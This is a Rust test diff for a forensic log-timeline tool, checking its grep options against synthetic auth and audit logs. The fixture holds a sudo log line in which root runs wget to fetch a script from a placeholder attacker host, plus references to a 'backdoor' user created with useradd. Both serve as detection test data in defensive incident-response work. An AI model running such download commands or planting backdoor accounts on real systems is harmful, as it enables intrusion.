@@ -471,3 +471,31 @@ fn a_boot_without_a_shutdown_is_a_finding_and_a_clean_one_is_not() {
     assert_eq!(boots[0].details["previous_boot"], b2);
     assert_eq!(boots[0].evidence.len(), 2, "the last entry of the old boot and the first of the new");
 }
+
+#[test]
+fn timeline_grep_finds_text_in_messages_and_raw_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let ev = dir.path().join("ev");
+    let mut log = auth_log();
+    log += &format!("Mar 10 09:05:00 {HOST} sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget http://{ATTACKER}:8080/u.sh\n");
+    write(&ev, &format!("{HOST}/var/log/auth.log"), log.as_bytes());
+    write(&ev, &format!("{HOST}/var/log/audit/audit.log"), audit_log().as_bytes());
+    let case = dir.path().join("case");
+    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
+    let c = case.to_str().unwrap();
+    // An address named in a command, which --ip (address fields only) does not find.
+    let out = ok(&["timeline", "--case", c, "--grep", &format!("{ATTACKER}:8080"), "--format", "jsonl"]);
+    assert_eq!(out.lines().count(), 1, "{out}");
+    assert!(out.contains("u.sh"));
+    // Case-insensitive, and --grep-raw reads the line as written (audit's hex stays hex there).
+    let out = ok(&["timeline", "--case", c, "--grep", "NEW USER: NAME=BACKDOOR", "--format", "jsonl"]);
+    assert_eq!(out.lines().count(), 1, "{out}");
+    let none = run(&["timeline", "--case", c, "--grep", "no-such-text", "--format", "jsonl"]);
+    assert_eq!(none.status.code(), Some(1), "no match exits 1, like grep");
+    let out = ok(&["timeline", "--case", c, "--grep-raw", "a0=\"useradd\"", "--format", "jsonl"]);
+    assert_eq!(out.lines().count(), 1, "{out}");
+    // A pattern that is no regular expression is a usage error.
+    let bad = run(&["timeline", "--case", c, "--grep", "("]);
+    assert_eq!(bad.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a regular expression"));
+}
